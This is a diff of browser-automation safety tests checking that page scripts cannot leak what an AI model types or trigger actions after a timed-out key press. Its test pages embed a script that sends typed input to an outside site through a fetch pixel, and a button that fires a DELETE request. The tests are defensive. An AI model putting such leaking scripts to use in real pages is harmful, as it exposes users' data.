@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from handrail import Session
+from handrail.browser.backend.hands import PageHands
 from handrail.policy import Ask
 from tests.pages import PageServer
 from tests.test_road_policy import as_model, refs
@@ -210,6 +211,32 @@ async def test_what_a_model_made_up_is_not_told_on_when_its_page_is_loaded_again
         assert (await session.call_as("model", tool, **params)).ok
     assert (await session.call_as("model", "click", ref=(await refs(session))["More"])).ok
     assert [request.path for request in serve.requests if "pixel" in request.path and "stolen" in request.path] == []
+
+
+async def test_what_a_busy_page_makes_of_a_key_that_it_did_not_take_in_time_is_held(
+    session: Session, serve: PageServer
+):
+    page = """<button onkeydown="const end = Date.now() + 2500; while (Date.now() < end);"
+    onclick="fetch('/late', {method: 'DELETE'})">OK</button>"""
+    await session.call("goto", url=serve(page))
+    ok = (await refs(session))["OK"]
+    session.tab.hands = PageHands(session.tab.core, patience=0.5)  # type: ignore[attr-defined]
+    async with session.tab.page.expect_event("requestfailed"):
+        assert (await session.call_as("model", "enter", ref=ok)).code == "timeout"
+    assert posted(serve) == []
+
+
+async def test_what_a_model_typed_is_not_told_on_by_scripts(session: Session, serve: PageServer):
+    page = f"""<input type=search aria-label=Find id=it oninput="tell()"><button onclick="tell()">More</button>
+    <script>const tell = () => fetch('{serve.other_site}/pixel?q=' + it.value, {{ mode: 'no-cors' }})</script>"""
+    await session.call("goto", url=serve(page))
+    at = await refs(session)
+    for act in ({"tool": "fill", "ref": at["Find"], "value": "stolen words"}, {"tool": "click", "ref": at["More"]}):
+        result = await session.call_as("model", act.pop("tool"), **act)
+        assert "stopped_requests" in result.followed
+    session.provenance.words.say("Find a kettle")
+    assert (await session.call_as("model", "fill", ref=at["Find"], value="kettle")).ok
+    assert [request.path for request in serve.requests if "pixel" in request.path] == ["/pixel?q=kettle"]
 
 
 async def test_a_page_that_a_run_goes_on_with_may_have_been_made_up(session: Session, serve: PageServer):
